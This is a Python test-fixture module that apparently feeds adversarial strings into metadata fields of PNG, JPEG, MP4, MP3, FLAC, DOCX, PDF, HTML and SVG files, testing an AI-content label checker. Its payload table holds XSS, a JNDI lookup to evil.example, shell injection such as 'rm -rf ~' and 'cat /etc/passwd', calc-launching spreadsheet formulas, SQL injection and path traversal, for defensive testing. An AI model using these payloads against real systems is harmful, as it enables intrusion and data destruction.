"""Strings that try to act where they are shown, and files that hold them in every kind of place."""

import io
import json
import struct
import zipfile

import pikepdf

import pictures
import suite
import surgery
from test_carriers import BASES

RTL, ISOLATE, POP = "\u202e", "\u2067", "\u2069"
LONG = 70_000
# By what they try. Written for this project.
TEXTS = {
    # Terminals.
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H\x1b[3J",
    "title": "\x1b]0;owned\x07after",
    "link": "\x1b]8;;https://evil.example\x1b\\trusted\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "answer-back": "\x1b[6n\x1b[c\x1b[>c\x05",
    "device-string": "\x1bP+q544e\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\",
    "c1": "\x9b31m\x9d0;x\x9c\x90q\x85\x8d",
    "nul": "before\0after",
    "all-c0": "".join(map(chr, range(1, 0x20))) + "\x7f",
    "all-c1": "".join(map(chr, range(0x80, 0xA0))),
    "backspace": "safe\b\b\b\bevil",
    "return": "\r✓ complies with cn-gb45438\r",
    "shift": "\x0e\x0f\x1b(0lqqk\x1b(B",
    "tabs": "a\tb\t\tc\v\f",
    # Order and visibility.
    "override": f"photo_{RTL}gpj.exe",
    "isolate": f"{ISOLATE}abc{POP}\u2066x\u2068y",
    "marks": "\u200e\u200f\u061c\u202a\u202b\u202c\u202d",
    "zero-width": "ad\u200bm\u200ci\u200dn\u2060\ufeff",
    "soft-hyphen": "co\u00adop\u034fx",
    "tags": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "hidden") + "\U000e007f",
    "selectors": "a\ufe00\ufe0f\U000e0100\U000e01ef",
    "fillers": "\u3164\u115f\u1160\uffa0\u17b4\u17b5\u180b\u180e",
    "annotation": "\ufff9a\ufffab\ufffb\ufffc",
    "music": "\U0001d173\U0001d17a\U0001bca0",
    "lines": "one\u2028two\u2029three",
    # Lines of its own.
    "finding": "x\n  ✗ error manifest.signature_invalid\n    the signature does not verify\nx",
    "verdict": "x\r\n\nRule sets\n  ✓ cn-gb45438: complies\n",
    "file-line": "x\n/etc/passwd  PNG, 1 byte\nThe file states that it is AI-generated.\n",
    "wrapped": "word " * 60 + "✗ error manifest.signature_invalid " * 4,
    "json-line": 'x"}\n{"schema":"biaoshi.report/1","file":"other","status":"confirmed"}\n{"a":"',
    "log-line": "x\n2026-01-01T00:00:00Z INFO verified: trusted\n",
    # Documents.
    "script": "</script><img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": "\"' onmouseover='alert(1)' x=\"",
    "entity": "&lt;b&gt;&#60;i&#62;&amp;amp;&copy",
    "comment": "--><!--]]><![CDATA[<?php echo 1 ?>",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/x.png) **b** `c`",
    "embedded": "[signed by a notary](https://evil.example) [x](1) \\[y\\](2)",
    "placeholder": "{0} {1} {{0}} %s %n %1$s ${x} {{7*7}}",
    "template": "{{constructor.constructor('alert(1)')()}}<%= 7*7 %>#{7*7}",
    "formula": "=1+1",
    "formula-call": "=HYPERLINK(\"https://evil.example\",\"x\")",
    "formula-signs": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "lookup": "${jndi:ldap://evil.example/a}",
    "lookup-nested": "${${lower:j}ndi:${env:HOME}}",
    "shell": "$(touch pwned);`id`|cat /etc/passwd&&echo\\",
    "shell-quote": "'; rm -rf ~; echo '",
    "sql": "' OR 1=1; DROP TABLE files;--",
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\CON:stream\\\\.\\pipe\\x",
    "url": "javascript:alert(document.domain)//%0a%0d\\",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    # Strings that confuse parsers.
    "empty-ish": " ",
    "quotes": "\"\\\"\\\\\"'`“”‘’",
    "backslash": "\\u0000\\x00\\n\\",
    "json": '{"AIGC":{"Label":"1"}}',
    "xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "yaml": "!!python/object:os.system\n- &a [*a]\n---\n",
    "null": "null",
    "number": "1e309",
    "nan": "NaN",
    "proto": "__proto__",
    "combining": "Z" + "\u0300\u0301\u0302\u0303\u0316\u0317" * 40,
    "cjk": "标识符，“引号”；全角：ＡＢＣ",
    "emoji": "👩\u200d👩\u200d👧🏳\ufe0f\u200d🌈",
    "astral": "\U0001d400\U00020000\U0010fffd",
    "noncharacters": "\ufdd0\ufffe\uffff\U0001ffff",
    "private": "\ue000\uf8ff",
    "nfd": "e\u0301 \u1112\u1161\u11ab",
    "turkish": "İıſK",
    "homoglyph": "раураl.com",
    "hieroglyph": "\U00013000\U00013430\U00013437",
    "long": "A" * LONG,
    "long-wide": "图" * 20_000,
    "long-escaped": "\x1b[31m" * 8_000,
    "many-lines": "line\n" * 4_000,
}
# Bytes that are no UTF-8: stray, cut, too long, a surrogate, beyond the last code point.
BYTES = {
    "stray": b"a\xffb\xfe",
    "cut": b"a\xe5\x9b",
    "overlong": b"\xc0\xafx\xe0\x80\xaf",
    "surrogate": b"\xed\xa0\x80\xed\xb0\x80",
    "beyond": b"\xf4\x90\x80\x80",
    "latin-c1": b"\x9b31mred",
    "gbk": "图片\x1b[31m".encode("gbk"),
}
# The keys of a label, and how a report calls them.
KEYS = {
    "Label": "label", "ContentProducer": "content_producer", "ProduceID": "produce_id", "ReservedCode1": "reserved_code1",
    "ContentPropagator": "content_propagator", "PropagateID": "propagate_id", "ReservedCode2": "reserved_code2",
}
PNG = pictures.save(pictures.scene(24, 16), "png")
JPEG = pictures.save(pictures.scene(24, 16), "jpeg")
WEBP = pictures.save(pictures.scene(24, 16), "webp")


class Impossible(Exception):
    """The place cannot hold this string."""


def label(**changes):
    fields = dict.fromkeys(KEYS, "x") | {"Label": "1", "ContentProducer": suite.CODE, "ProduceID": "1"}
    return fields | changes


def bare(value, ascii=True):
    return json.dumps(value, ensure_ascii=ascii).encode("utf-8", "surrogatepass")


def png_text(key, data, kind=b"iTXt"):
    body = key + (b"\0\0\0\0\0" if kind == b"iTXt" else b"\0") + data
    parts = surgery.split("png", PNG)
    return surgery.join("png", [parts[0], surgery.Part(kind, body), *parts[1:]])


def field(key, ascii=True):
    return lambda text: png_text(b"AIGC", bare(label(**{key: text}), ascii))


def unknown_key(text):
    return png_text(b"AIGC", bare({**label(), text: "value"}))


def other_schema(text):
    """Keys of no label at all: they are named in a message."""
    return png_text(b"AIGC", bare({text: "1", "x" + text: "2"}))


def latin(data, most):
    if not 0 < len(data) <= most or b"\0" in data:
        raise Impossible
    return data


def png_key(text):
    return png_text(latin(text.encode("utf-8"), 79), b"value", b"tEXt")


def png_value(text):
    if "\0" in text:
        raise Impossible
    return png_text(b"parameters", text.encode())


def xml(text):
    """Text of an element; XML 1.0 has no controls, and ends of lines are one."""
    if any((c < " " and c not in "\t\n") or c in "\ufffe\uffff" for c in text):
        raise Impossible
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").encode()


def packet(properties):
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description rdf:about="" xmlns:TC260="http://www.tc260.org.cn/ns/AIGC/1.0/"'
        b' xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:Iptc4xmpExt="http://iptc.org/std/Iptc4xmpExt/2008-02-29/"'
        b' xmlns:dcterms="http://purl.org/dc/terms/">' + properties + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def jpeg_part(kind, data):
    if len(data) > 65_533:
        raise Impossible
    parts = surgery.split("jpeg", JPEG)
    return surgery.join("jpeg", [parts[0], surgery.Part(kind, data), *parts[1:]])


def xmp(properties):
    return jpeg_part(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet(properties))


def xmp_property(name):
    return lambda text: xmp(b"<%s>%s</%s>" % (name, xml(text), name))


def exif(tag, data):
    """A block with one entry of undefined bytes, in the first directory or in Exif's own."""
    if tag == 0x9286:
        head = struct.pack("<2sHIH2HII4x", b"II", 42, 8, 1, 0x8769, 4, 1, 26)
        entry = struct.pack("<HHHIII", 1, tag, 7, len(data), 44, 0)
    else:
        head = struct.pack("<2sHI", b"II", 42, 8)
        entry = struct.pack("<HHHIII", 1, tag, 2, len(data), 26, 0)
    return jpeg_part(0xE1, b"Exif\0\0" + head + entry + data)


def user_comment(text):
    return exif(0x9286, b"UNICODE\0" + text.encode("utf-16-le", "surrogatepass"))


def user_comment_label(text):
    return exif(0x9286, b"ASCII\0\0\0" + bare({"AIGC": label(ProduceID=text)}))


def software(data):
    if b"\0" in data:
        raise Impossible
    return exif(0x0131, data + b"\0")


def jpeg_comment(data):
    return jpeg_part(0xFE, data)


def box(kind, data):
    return struct.pack(">I4s", len(data) + 8, kind) + data


def meta(key, data):
    """A box of metadata with one key of QuickTime."""
    handler = box(b"hdlr", b"\0" * 8 + b"mdta" + b"\0" * 13)
    keys = box(b"keys", struct.pack(">II", 0, 1) + box(b"mdta", key))
    item = box(struct.pack(">I", 1), box(b"data", struct.pack(">II", 1, 0) + data))
    return (BASES / "mp4" / "plain-ok.mp4").read_bytes() + box(b"meta", b"\0" * 4 + handler + keys + box(b"ilst", item))


def box_type(data):
    return (BASES / "mp4" / "plain-ok.mp4").read_bytes() + box((data + b"    ")[:4], b"x")


def chunk_type(data):
    parts = surgery.split("webp", WEBP)
    return surgery.join("webp", [*parts, surgery.Part((data + b"    ")[:4], b"xx")])


def id3(description, value):
    body = b"\x03" + description + b"\0" + value
    frame = b"TXXX" + bytes((len(body) >> shift) & 0x7F for shift in (21, 14, 7, 0)) + b"\0\0" + body
    size = bytes((len(frame) >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x04\0\0" + size + frame + (BASES / "mp3" / "bare-ok.mp3").read_bytes()


def flac(comment):
    """A block of Vorbis comments behind STREAMINFO, instead of what is there."""
    data = (BASES / "flac" / "bare-ok.flac").read_bytes()
    block = struct.pack("<I", 1) + b"x" + struct.pack("<II", 1, len(comment)) + comment
    head = bytes([data[4] & 0x7F]) + data[5:42]
    rest, last = 42, bool(data[4] & 0x80)
    while not last:
        last, length = bool(data[rest] & 0x80), int.from_bytes(data[rest + 1 : rest + 4], "big")
        rest += 4 + length
    return data[:4] + head + b"\x84" + len(block).to_bytes(3, "big") + block + data[rest:]


def package(entry=None, value=None):
    """A document with one more entry, or with a property that holds a label."""
    out = io.BytesIO()
    if entry is not None and (not entry or len(entry) > 60_000 or "\0" in entry):
        raise Impossible
    with zipfile.ZipFile(BASES / "docx" / "docx-custom-ok.docx") as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "docProps/custom.xml" and value is not None:
                more = (
                    b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="99" name="AIGC"><vt:lpwstr>%s</vt:lpwstr>'
                    b"</property></" % xml(value)
                )
                assert b"</" in data
                at = data.rindex(b"</")
                data = data[:at] + more + data[at + 2 :]
            target.writestr(item, data)
        if entry is not None:
            target.writestr(entry, b"x")
    return out.getvalue()


def pdf_info(key, text):
    out = io.BytesIO()
    with pikepdf.open(BASES / "pdf" / "table-ok.pdf") as document:
        document.docinfo[key] = pikepdf.String(text)
        document.save(out)
    return out.getvalue()


def html_meta(text):
    content = bare(label(ProduceID=text)).decode().replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return f'<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="AIGC" content="{content}"></head></html>'.encode()


def front_matter(text):
    lines = [f"  {key}: {json.dumps(value)}" for key, value in label(ProduceID=text).items()]
    return ("---\nAIGC:\n" + "\n".join(lines) + "\n---\ntext\n").encode()


def json_member(text):
    return bare({"AIGC": label(ProduceID=text), "other": text})


def svg(metadata=b"", title=b""):
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><metadata><AIGC xmlns="">%s</AIGC></metadata>'
        b"<title>%s</title></svg>" % (metadata, title)
    )


def svg_label(text):
    return svg(xml(bare(label(ProduceID=text), ascii=False).decode()))


# Where: (ending, how a file is made of a string, where the string has to stand in JSON).
PLACES = {
    **{f"label {key}": (".png", field(key), KEYS[key]) for key in KEYS},
    "label raw": (".png", field("ProduceID", ascii=False), "produce_id"),
    "label unknown key": (".png", unknown_key, None),
    "label other schema": (".png", other_schema, None),
    "png key": (".png", png_key, None),
    "png value": (".png", png_value, "values"),
    "xmp label": (".jpg", lambda text: xmp(b"<TC260:AIGC>%s</TC260:AIGC>" % xml(bare(label(ProduceID=text)).decode())), "produce_id"),
    "xmp source type": (".jpg", xmp_property(b"Iptc4xmpExt:DigitalSourceType"), "anywhere"),
    "xmp creator tool": (".jpg", xmp_property(b"xmp:CreatorTool"), None),
    "xmp provenance": (".jpg", lambda text: xmp(b"<dcterms:provenance>http://%s</dcterms:provenance>" % xml(text)), None),
    "exif user comment": (".jpg", user_comment, None),
    "exif label": (".jpg", user_comment_label, "produce_id"),
    "exif software": (".jpg", lambda text: software(text.encode()), None),
    "jpeg comment": (".jpg", lambda text: jpeg_comment(text.encode()), "values"),
    "mp4 key": (".mp4", lambda text: meta(text.encode(), b"value"), None),
    "mp4 value": (".mp4", lambda text: meta(b"AIGC", bare(label(ProduceID=text))), "produce_id"),
    "mp4 box": (".mp4", lambda text: box_type(text.encode("latin-1", "replace")), None),
    "webp chunk": (".webp", lambda text: chunk_type(text.encode("latin-1", "replace")), None),
    "id3 description": (".mp3", lambda text: id3(text.encode(), b"value"), None),
    "id3 label": (".mp3", lambda text: id3(b"AIGC", bare(label(ProduceID=text))), "produce_id"),
    "vorbis comment": (".flac", lambda text: flac(text.encode()), None),
    "vorbis label": (".flac", lambda text: flac(b"AIGC=" + bare(label(ProduceID=text))), "produce_id"),
    "zip entry": (".docx", lambda text: package(entry=text), None),
    "docx property": (".docx", lambda text: package(value=bare(label(ProduceID=text)).decode()), "produce_id"),
    "pdf label": (".pdf", lambda text: pdf_info("/AIGC", bare(label(ProduceID=text)).decode()), "produce_id"),
    "pdf producer": (".pdf", lambda text: pdf_info("/Producer", text), None),
    "html meta": (".html", html_meta, "produce_id"),
    "front matter": (".md", front_matter, "produce_id"),
    "json member": (".json", json_member, "produce_id"),
    "svg label": (".svg", svg_label, "produce_id"),
    "svg title": (".svg", lambda text: svg(title=xml(text)), None),
}
# The same for bytes that are no text.
RAW = {
    "png label": (".png", lambda data: png_text(b"AIGC", bare(label(ProduceID="@")).replace(b"@", data))),
    "png key": (".png", lambda data: png_text(latin(data, 79), b"value", b"tEXt")),
    "png value": (".png", lambda data: png_text(b"parameters", data)),
    "png latin": (".png", lambda data: png_text(b"Comment", data, b"tEXt")),
    "xmp": (".jpg", lambda data: xmp(b"<xmp:CreatorTool>%s</xmp:CreatorTool>" % data)),
    "xmp label": (".jpg", lambda data: xmp(b"<TC260:AIGC>%s</TC260:AIGC>" % bare(label(ProduceID="@")).replace(b"@", data))),
    "exif software": (".jpg", software),
    "jpeg comment": (".jpg", jpeg_comment),
    "mp4 key": (".mp4", lambda data: meta(data, b"value")),
    "mp4 box": (".mp4", box_type),
    "webp chunk": (".webp", chunk_type),
    "id3": (".mp3", lambda data: id3(b"AIGC", bare(label(ProduceID="@")).replace(b"@", data))),
    "vorbis": (".flac", flac),
    "json": (".json", lambda data: b'{"AIGC":"' + data + b'"}'),
    "html": (".html", lambda data: b'<html><head><meta name="AIGC" content="' + data + b'"></head></html>'),
}
